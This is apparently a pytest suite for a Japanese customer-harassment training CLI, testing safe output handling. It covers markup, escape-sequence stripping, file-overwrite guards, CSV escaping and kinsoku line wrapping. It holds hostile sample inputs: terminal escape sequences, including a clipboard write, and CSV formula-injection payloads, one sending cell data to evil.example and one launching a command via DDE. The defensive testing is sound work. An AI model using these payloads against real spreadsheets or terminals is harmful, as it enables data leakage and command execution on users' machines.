"""What the commands print and write, at the edges: names and titles written by someone else (Rich markup, escape
sequences), terminals that cannot show every character, output files that already exist or must never be replaced,
spreadsheet formulas in CSV, and how piped and terminal output is broken into lines."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

import kasuhara_sim

KETTLE = Path(__file__).parent.parent / "data" / "kettle.yaml"
ROOT = Path(kasuhara_sim.__file__).resolve().parent.parent  # the package under test, for the subprocesses

MARKUP = "[/] [bold red]太字[/bold red] [link=https://evil.example]x[/link] :smile:"
ESCAPES = "\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b[31mred\x1b]52;c;cHduZWQ=\x07\x9b31m\x08\r"


def k(*args, env=None, input=None, cwd=None):
    """``python -m kasuhara_sim`` as a user runs it (stdout and stderr as bytes, to see exactly what was written)."""
    full = dict(os.environ)
    full["PYTHONPATH"] = str(ROOT) + os.pathsep + full.get("PYTHONPATH", "")
    full.update(env or {})
    return subprocess.run([sys.executable, "-m", "kasuhara_sim", *map(str, args)], capture_output=True, env=full,
                          input=input, cwd=cwd, timeout=120)


def text(proc) -> str:
    return (proc.stdout + proc.stderr).decode("utf-8", "replace")


def kettle_copy(folder: Path, **changes) -> Path:
    """The example scenario with its title (and other fields) replaced."""
    data = yaml.safe_load(KETTLE.read_text(encoding="utf-8"))
    for key, value in changes.items():
        if key == "persona_name":
            data["persona"]["name"] = value
        elif key == "reply":
            data["nodes"]["opening"]["choices"][0]["text"] = value
        else:
            data[key] = value
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "kettle.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


# --- Rich markup in stored names and titles (issue 13, reliability C3) ------------------------------------------
def test_markup_in_a_trainee_name_or_a_title_is_shown_as_typed(tmp_path):
    scen = kettle_copy(tmp_path / "lib", title=MARKUP)
    assert k("play", scen, "--choices", "1,1,1", "--trainee", "[/]").returncode == 0
    for args in (["history"], ["history", "--trainee", "[/]"], ["--scenarios", tmp_path / "lib", "list"]):
        for columns in ("80", "140"):  # the narrow and the wide layouts
            proc = k(*args, env={"COLUMNS": columns})
            out = text(proc)
            assert proc.returncode == 0 and "Traceback" not in out and "MarkupError" not in out, (args, out)
            assert "[/]" in out, (args, out)
    listed = text(k("--scenarios", tmp_path / "lib", "list"))
    assert MARKUP in listed  # not styled, not turned into a link or an emoji


# --- output encodings (issue 15 item 5, reliability C5) ---------------------------------------------------------
@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "euc-jp"])
def test_every_command_writes_what_the_encoding_can_carry(tmp_path, encoding):
    assert k("play", KETTLE, "--choices", "1,1,1", "--trainee", "山田").returncode == 0
    env = {"PYTHONIOENCODING": encoding}
    cases = [(["list"], 0), (["history"], 0), (["history", "--trainee", "山田"], 0), (["report"], 0), (["--help"], 0),
             (["play", KETTLE, "--choices", "1,1,1"], 0), (["play", KETTLE, "--choices", "1,1,1", "--json"], 0),
             (["validate", KETTLE], 0), (["play", KETTLE, "--choices", "9"], 2), (["report", "--format", "csv"], 0)]
    for args, rc in cases:
        proc = k(*args, env=env)
        assert proc.returncode == rc and b"Traceback" not in proc.stderr, (args, proc.stderr[-300:])
        assert proc.stdout or proc.stderr
    proc = k("play", KETTLE, "--plain", "--seed", "75", env=env, input=b"\n1\n1\n1\n")  # seed 75: the written order
    assert proc.returncode == 0 and b"Traceback" not in proc.stderr, proc.stderr[-300:]
    if encoding == "euc-jp":  # a Japanese encoding still shows the Japanese
        assert "初期不良の電気ケトル".encode("euc-jp") in proc.stdout


# --- control characters and escape sequences (issue 15 item 5, reliability S2) ----------------------------------
def test_clean_removes_escape_sequences_and_control_characters():
    from kasuhara_sim.display import clean

    assert clean("a" + ESCAPES + "b\n\tc お客様") == "aredb\n\tc お客様"
    assert clean("\x1bc\x1b(B\x00\x7f\x85ok") == "ok"
    assert clean("") == ""


def test_no_escape_sequence_from_a_scenario_or_a_name_reaches_the_terminal(tmp_path):
    # A scenario file with control characters is refused at load, and the refusal itself prints none of them.
    bad = kettle_copy(tmp_path / "bad", title="題" + ESCAPES)
    refused = k("play", bad, "--choices", "1,1,1")
    assert refused.returncode == 1 and b"control-character" in refused.stdout + refused.stderr
    # What is stored can still carry them (older versions, a database edited by hand): a title.
    from kasuhara_sim.engine import replay
    from kasuhara_sim.format.loader import load_scenario
    from kasuhara_sim.scoring import score_run
    from kasuhara_sim.store.db import Store

    home = tmp_path / "home"
    loaded = load_scenario(KETTLE)
    loaded.scenario = loaded.scenario.model_copy(update={"title": "題" + ESCAPES})
    run = replay(loaded.scenario, [1, 1, 1])
    os.environ["KASUHARA_SIM_HOME"] = str(home)
    try:
        with Store.open() as store:
            store.record_run("佐藤", loaded, run, score_run(loaded.scenario, run))
    finally:
        del os.environ["KASUHARA_SIM_HOME"]
    env = {"KASUHARA_SIM_HOME": str(home)}
    runs = [k("history", env=env), k("report", env=env), k("play", KETTLE, "--choices", "1,1,1", env=env),
            k("play", KETTLE, "--choices", "1,1,1", "--trainee", "a\x1b]0;T\x07red", env=env),  # the refusal names it
            k("play", bad, "--plain", "--seed", "75", input=b"\n1\n1\n1\n", env=env)]
    for proc in runs:
        shown = proc.stdout + proc.stderr
        assert b"\x1b" not in shown and b"\x07" not in shown and b"\xc2\x9b" not in shown, shown[-400:]
        assert b"Traceback" not in shown
    assert "題red".encode() in runs[0].stdout  # the text around the sequences is kept


# --- nothing overwritten unasked (issue 13 item 2, reliability D1, W6) ------------------------------------------
def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def one_line_error(proc, rc=1) -> str:
    err = proc.stderr.decode("utf-8")
    assert proc.returncode == rc and len(err.strip().splitlines()) == 1 and "Traceback" not in err, err
    return err


@pytest.mark.parametrize("args", [["graph", KETTLE], ["schema"], ["export", "--format", "csv"], ["report"],
                                  ["report", "--format", "html"]])
def test_an_existing_file_is_replaced_only_with_force(tmp_path, args):
    target = tmp_path / "precious.txt"
    target.write_text("precious", encoding="utf-8")
    err = one_line_error(k(*args, "-o", target))
    assert "--force" in err and target.read_text(encoding="utf-8") == "precious"
    assert k(*args, "-o", target, "--force").returncode == 0 and target.read_text(encoding="utf-8-sig") != "precious"
    fresh = tmp_path / "fresh.txt"
    assert k(*args, "-o", fresh).returncode == 0 and fresh.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["fresh.txt", "precious.txt"]  # no temporary file left


def test_the_scenario_being_drawn_is_never_replaced(tmp_path):
    scen = kettle_copy(tmp_path / "mine")
    before = sha(scen)
    for extra in ([], ["--force"]):
        assert "シナリオ" in one_line_error(k("graph", scen, "-o", scen, *extra))
    # nor any scenario file in a scenario folder, nor a new .yaml there (it would be loaded as a broken scenario)
    lib = kettle_copy(tmp_path / "lib")
    lib_before = sha(lib)
    for target in (lib, tmp_path / "lib" / "graph.yaml"):
        assert "シナリオ" in one_line_error(k("--scenarios", tmp_path / "lib", "graph", scen, "-o", target, "--force"))
    assert sha(scen) == before and sha(lib) == lib_before and not (tmp_path / "lib" / "graph.yaml").exists()


def test_the_results_database_is_never_replaced(tmp_path, monkeypatch):
    home = tmp_path / "home"
    monkeypatch.setenv("KASUHARA_SIM_HOME", str(home))
    assert k("play", KETTLE, "--choices", "1,1,1", "--trainee", "山田").returncode == 0
    db = home / "results.sqlite3"
    before = sha(db)
    os.link(db, tmp_path / "alias.db")  # another name for the same file
    os.symlink(db, tmp_path / "link.db")
    for target in (db, tmp_path / "alias.db", tmp_path / "link.db", home / ".." / "home" / "results.sqlite3"):
        for args in (["export", "--format", "csv"], ["export", "--format", "json"], ["report"], ["schema"],
                     ["graph", KETTLE]):
            assert "成績データベース" in one_line_error(k(*args, "-o", target, "--force")), (args, target)
    assert sha(db) == before and "山田" in text(k("history"))


def test_output_names_that_cannot_be_files_are_one_clear_line(tmp_path):
    assert "空" in one_line_error(k("export", "--format", "csv", "-o", ""), rc=2)
    assert "空" in one_line_error(k("graph", KETTLE, "-o", "  "), rc=2)
    assert "制御文字" in one_line_error(k("report", "-o", tmp_path / "x\ny.txt"), rc=2)
    assert "長すぎ" in one_line_error(k("report", "-o", tmp_path / ("a" * 300)))
    assert "長すぎ" in one_line_error(k("schema", "-o", tmp_path / ("b" * 300) / "s.json"))
    assert list(tmp_path.iterdir()) == []


def test_a_long_legal_name_is_written(tmp_path):
    name = "あ" * 80 + ".csv"  # 244 bytes: legal, but not with a temporary name built from it
    assert len(name.encode()) == 244
    proc = k("export", "--format", "csv", "-o", tmp_path / name)
    assert proc.returncode == 0, proc.stderr.decode()
    assert [p.name for p in tmp_path.iterdir()] == [name]


# --- CSV formula injection (issue 13 item 4, reliability S1) ----------------------------------------------------
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def test_csv_cells_never_start_like_a_formula(tmp_path):
    scen = kettle_copy(tmp_path / "lib", title="=1+1 のタイトル")
    for name in HOSTILE:
        assert k("play", scen, "--choices", "1,1,1", "--trainee", name).returncode == 0
    export = list(csv.DictReader(io.StringIO(k("export", "--format", "csv").stdout.decode("utf-8"))))
    assert sorted(r["trainee"] for r in export) == sorted("'" + n for n in HOSTILE)
    assert {r["scenario_title"] for r in export} == {"'=1+1 のタイトル"}
    assert {r["total"] for r in export} == {"100"}  # numbers stay numbers
    report = list(csv.DictReader(io.StringIO(k("report", "--format", "csv").stdout.decode("utf-8"))))
    assert sorted(r["trainee"] for r in report if r["kind"] == "trainee") == sorted("'" + n for n in HOSTILE)
    assert {r["mean"] for r in report if r["kind"] == "trainee"} == {"100.00"}
    for row in export + report:
        for cell in row.values():
            assert not (cell or "").startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_numbers_in_csv_stay_numbers_even_when_negative():
    from kasuhara_sim.reports.export import _cell, text_cell

    assert _cell(-5) == "-5" and _cell(-1.5) == "-1.50" and _cell(True) == "true"
    assert text_cell("-5") == "'-5" and text_cell("\tx") == "'\tx" and text_cell("\rx") == "'\rx"
    assert text_cell("山田") == "山田" and text_cell("a=b") == "a=b"


# --- line breaking (trainee review D10, D12) --------------------------------------------------------------------
def test_piped_output_is_never_hard_wrapped():
    listed = k("list", env={"COLUMNS": "80"}).stdout.decode("utf-8").splitlines()
    meta = [line for line in listed if line and not line.startswith(" ") and " / " in line]
    assert meta and all(line.endswith("分") for line in meta), meta  # one line per scenario, never split
    played = k("play", KETTLE, "--choices", "1,1,1").stdout.decode("utf-8").splitlines()
    turn = next(line for line in played if "ターン1 " in line)
    assert "「ご不便をおかけして申し訳ございません。お急ぎのところ、お越しいただきありがとうございます。」" in turn


def test_terminal_output_wraps_at_the_terminal_width_by_japanese_rules():
    from rich.console import Console

    from kasuhara_sim.format.loader import load_scenario
    from kasuhara_sim.reports.result import render
    from kasuhara_sim.scoring import score_run
    from kasuhara_sim.cli.root import play_choices
    from kasuhara_sim.display import NO_END, NO_START

    loaded = load_scenario(KETTLE)
    report = score_run(loaded.scenario, play_choices(loaded, [1, 2, 1]))
    for width in (30, 44, 57, 100):
        console = Console(width=width, force_terminal=True, color_system=None, record=True)
        console.print(render(report, loaded.scenario))
        lines = console.export_text().splitlines()
        assert all(console.measure(line).maximum <= width for line in lines)
        body = [line.strip() for line in lines if line.strip()]
        assert not [line for line in body if line[0] in NO_START], width
        assert not [line for line in body if line[-1] in NO_END], width


def test_wrap_ja_follows_the_kinsoku_rules():
    from kasuhara_sim.display import NO_END, NO_START, wrap_ja

    text = "お客様、大変申し訳ございません。ただいま確認いたしますので、少々お待ちください。「はい」とお伝えします。"
    for width in range(4, 40):
        lines = wrap_ja(text, width)
        assert "".join(lines) == text
        assert all(line[0] not in NO_START for line in lines[1:]) and all(line[-1] not in NO_END for line in lines)


@pytest.mark.parametrize("choices", ["1,,1", "1,1,", ",1", ""])
def test_an_empty_number_in_choices_is_an_error(choices):
    proc = k("play", KETTLE, "--choices", choices)
    assert "--choices" in one_line_error(proc, rc=2)
